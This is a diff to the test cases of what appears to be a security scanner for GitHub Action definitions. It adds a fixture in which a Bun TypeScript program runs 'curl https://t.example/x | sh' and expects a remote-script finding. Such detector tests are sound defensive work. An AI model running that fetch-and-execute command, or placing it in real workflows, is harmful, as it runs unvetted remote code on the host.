@@ -209,8 +209,11 @@ const cases: [string, Record<string, string>, string[]][] = [
   ],
   [
     'bun with options before run: a TypeScript program is not passed over',
-    { 'x.ts': '', 'action.yml': ACTION(step('bun --no-env-file run "$GITHUB_ACTION_PATH/x.ts"')) },
-    ['opaque bun program is not analysed'],
+    {
+      'x.ts': 'const url: string = "https://t.example/x"; await Bun.$`curl ${url} | sh`;',
+      'action.yml': ACTION(step('bun --no-env-file run "$GITHUB_ACTION_PATH/x.ts"')),
+    },
+    ['remote-script https://t.example/x none'],
   ],
   [
     'a check inside the branch in which the bytes came in covers a later step',
